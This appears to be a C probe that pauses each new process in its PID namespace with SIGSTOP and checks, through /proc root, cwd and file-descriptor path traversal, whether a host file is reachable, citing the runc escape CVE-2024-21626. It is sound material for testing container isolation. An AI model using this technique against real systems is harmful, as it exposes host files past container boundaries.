// Holds up, by SIGSTOP, each process that comes into its PID namespace, as early as it can,
// and looks by way of /proc whether it has a file at the path: one of the host's.
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/wait.h>
#include <unistd.h>

static void look(int pid, const char *through, const char *file)
{
	char path[4400];
	snprintf(path, sizeof(path), "/proc/%d/%s%s", pid, through, file);
	int fd = open(path, O_RDONLY);
	if (fd >= 0)
		printf("%s: the host's file\n", through);
	close(fd);
}

int main(int argc, char **argv)
{
	int next = fork();

	if (next == 0)
		_exit(0);
	waitpid(next, NULL, 0);
	printf("looks\n");
	fflush(stdout);
	for (next++;; next++) { // PIDs come one after the other, and some are threads
		for (int ahead = 0; kill(next, SIGSTOP) < 0; ahead = (ahead + 1) % 12)
			if (kill(next + ahead, 0) == 0)
				next += ahead;
		look(next, "root", argv[1]);
		look(next, "cwd", argv[1]);
		for (int fd = 0; fd < 16; fd++) { // also by way of what it has open (CVE-2024-21626)
			char name[128];
			snprintf(name, sizeof(name), "fd/%d/../../../../../../../..", fd);
			look(next, name, argv[1]);
		}
		printf("looked\n");
		fflush(stdout);
		kill(next, SIGCONT);
	}
}
